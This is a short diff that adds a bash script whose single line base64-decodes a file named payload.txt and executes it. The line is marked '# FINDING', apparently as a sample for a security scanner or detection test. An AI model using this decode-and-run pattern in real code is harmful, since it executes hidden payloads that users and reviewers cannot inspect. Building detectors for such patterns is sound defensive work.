@@ -1,0 +1,2 @@
+#!/bin/bash
+bash <(base64 --decode payload.txt)  # FINDING
